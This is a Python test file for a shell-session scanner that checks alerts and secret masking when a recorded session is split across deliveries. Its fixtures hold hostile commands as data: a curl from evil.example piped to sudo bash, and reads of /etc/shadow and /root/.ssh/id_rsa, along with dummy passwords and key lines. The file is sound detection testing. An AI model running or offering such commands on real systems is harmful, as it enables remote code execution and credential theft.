"""One session, several deliveries: each delivery is scanned by its own engine, warmed up (`prime`) with the
session's preceding events and ended with `flush_pending`. A command, a prompt or a private key split by a
delivery boundary must be judged and masked as if the session had arrived in one piece, and nothing alerts twice.
"""

from __future__ import annotations

import functools
import json

from sessionguard.rules import RulePack
from sessionguard.session.engine import CommandAlert, SanitizedLine, SessionEngine
from sessionguard.session.records import SessionEvent
from sessionguard.severity import Severity

PASSWORD = "S3cr3tPassw0rd!"
KEY_LINES = (
    "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun",
    "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK",
    "LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo",
)
Output = list[CommandAlert | SanitizedLine]


@functools.cache
def pack() -> RulePack:
    return RulePack.load()


def event(*lines: str, at: str = "2026-11-26T12:00:00Z") -> SessionEvent:
    return SessionEvent(
        session_id="jane-0123456789abcdef0",
        lines=lines,
        instance_id="i-0123456789abcdef0",
        user_arn="arn:aws:sts::111122223333:assumed-role/Admin/jane",
        event_time=at,
    )


def deliver(events: list[SessionEvent], *, before: list[SessionEvent] | None = None) -> Output:
    """One delivery as the alert function scans it: a fresh engine, warmed up with `before` when given."""
    engine = SessionEngine(pack(), min_severity=Severity.MEDIUM)
    if before is not None:
        engine.prime(before)
    return [*engine.scan(events), *engine.flush_pending()]


def in_two_deliveries(first: list[SessionEvent], second: list[SessionEvent]) -> tuple[Output, Output]:
    return deliver(first), deliver(second, before=first)


def rule_ids(out: Output) -> list[str]:
    return [item.rule_id for item in out if isinstance(item, CommandAlert)]


def lines(out: Output) -> list[tuple[str, str, bool]]:
    return [(item.kind, item.text, item.incomplete) for item in out if isinstance(item, SanitizedLine)]


def rendered(out: Output) -> str:
    return json.dumps([item.to_json() for item in out])


def test_a_download_piped_to_a_shell_split_across_deliveries_alerts_when_it_completes() -> None:
    first, second = in_two_deliveries(
        [event("sh-4.2$ curl -s https://evil.example/x.sh \\")],
        [event("> | sudo bash", "sh-4.2$ ", at="2026-11-26T12:00:05Z")],
    )

    assert rule_ids(first) == []
    assert lines(first) == [("command", "curl -s https://evil.example/x.sh \\", True)]  # written, marked incomplete
    assert rule_ids(second) == ["SG-DLEX-001"]
    (alert,) = [item for item in second if isinstance(item, CommandAlert)]
    assert alert.command == "curl -s https://evil.example/x.sh | sudo bash"
    assert alert.event_time == "2026-11-26T12:00:05Z"


def test_a_mysql_password_on_a_continuation_line_in_the_next_delivery_is_masked() -> None:
    first, second = in_two_deliveries(
        [event("sh-4.2$ mysql -u root \\")],
        [event(f"> -p{PASSWORD} orders", "sh-4.2$ ", at="2026-11-26T12:00:05Z")],
    )

    assert PASSWORD not in rendered(first) + rendered(second)
    assert lines(second) == [("command", "mysql -u root -p[MASKED:mysql-password] orders", False)]


def test_a_private_key_printed_across_deliveries_is_masked_in_both() -> None:
    first, second = in_two_deliveries(
        [event("sh-4.2$ cat /root/.ssh/id_rsa", "-----BEGIN RSA PRIVATE KEY-----", KEY_LINES[0])],
        [event(KEY_LINES[1], KEY_LINES[2], "-----END RSA PRIVATE KEY-----", at="2026-11-26T12:00:05Z")],
    )

    for key_line in KEY_LINES:
        assert key_line not in rendered(first) + rendered(second)
    assert [text for _, text, _ in lines(second)] == [
        "[MASKED:private-key]",
        "[MASKED:private-key]",
        "-----END RSA PRIVATE KEY-----",
    ]


def test_a_dash_prompt_learned_in_an_earlier_delivery_still_finds_commands() -> None:
    # dash (Ubuntu's sh) shows a bare "$ ", learned only near the session start: three output lines later, a new
    # engine would not recognise it.
    _, second = in_two_deliveries(
        [event("$ seq 3", "1")],
        [event("2", "3", "4", "$ curl -s https://evil.example/x.sh | sudo bash", "$ ", at="2026-11-26T12:00:05Z")],
    )

    assert rule_ids(second) == ["SG-DLEX-001"]
    assert ("command", "curl -s https://evil.example/x.sh | sudo bash", False) in lines(second)


def test_a_rule_the_incomplete_command_matched_does_not_alert_again_when_it_completes() -> None:
    first, second = in_two_deliveries(
        [event("sh-4.2$ cat /etc/shadow \\")],
        [event("> | head -3", "sh-4.2$ ", at="2026-11-26T12:00:05Z")],
    )

    assert rule_ids(first) == ["SG-CRED-001"]  # scanned as it was: nothing waits unjudged for the next delivery
    assert rule_ids(second) == []
    assert lines(second) == [("command", "cat /etc/shadow | head -3", False)]


def test_a_command_pending_over_three_deliveries_alerts_once_per_rule() -> None:
    one = [event("sh-4.2$ cat /etc/shadow \\")]
    two = [event("> | grep root \\", at="2026-11-26T12:00:02Z")]
    three = [event("> | curl -s https://evil.example/x.sh | sudo bash", "sh-4.2$ ", at="2026-11-26T12:00:04Z")]

    outputs = [deliver(one), deliver(two, before=one), deliver(three, before=one + two)]

    assert [rule_ids(out) for out in outputs] == [["SG-CRED-001"], [], ["SG-DLEX-001"]]


def test_priming_gives_out_nothing_and_counts_nothing() -> None:
    engine = SessionEngine(pack())
    engine.prime([event("sh-4.2$ curl -s https://evil.example/x.sh | sudo bash", f"password={PASSWORD}")])

    assert engine.stats.events == engine.stats.commands == engine.stats.lines == 0
    assert not engine.stats.alerts
    assert not engine.stats.secrets_masked
    assert engine.flush_pending() == []
    assert engine.finish() == []


def test_a_delivery_scanned_in_one_pass_and_in_two_gives_the_same_alerts() -> None:
    session = [
        event("sh-4.2$ echo start", "start"),
        event("sh-4.2$ cat <<'EOF' | bash", at="2026-11-26T12:00:01Z"),
        event("> curl -s https://evil.example/x.sh | sudo bash", "> EOF", at="2026-11-26T12:00:02Z"),
        event("sh-4.2$ ls", at="2026-11-26T12:00:03Z"),
    ]
    whole = deliver(session)
    split = [*deliver(session[:2]), *deliver(session[2:], before=session[:2])]

    assert rule_ids(split) == rule_ids(whole) == ["SG-DLEX-001"]
    complete = [line for line in lines(split) if not line[2]]
    assert complete == lines(whole)


# --- fail closed without warm-up --------------------------------------------------------------------------------


def test_without_warm_up_a_continuation_line_of_an_unknown_command_is_masked_whole() -> None:
    out = deliver([event(f"> -p{PASSWORD} orders", "sh-4.2$ ls", "file")])

    assert PASSWORD not in rendered(out)
    assert lines(out)[0] == ("output", "> [MASKED:unparsed-line]", False)
    assert ("output", "file", False) in lines(out)


def test_without_warm_up_key_material_before_the_first_command_is_masked() -> None:
    out = deliver([event(*KEY_LINES, "-----END RSA PRIVATE KEY-----", "sh-4.2$ echo " + KEY_LINES[0][:40])])

    for key_line in KEY_LINES:
        assert key_line not in rendered(out)
    assert ("command", "echo " + KEY_LINES[0][:40], False) in lines(out)  # after a command: judged as usual


def test_the_fallback_leaves_lines_after_the_first_command_alone() -> None:
    out = deliver([event("sh-4.2$ echo 'a", "> b'", "> not a continuation", KEY_LINES[0] + "x")])

    texts = [text for _, text, _ in lines(out)]
    assert texts == ["echo 'a", "b'", "> not a continuation", KEY_LINES[0] + "x"]
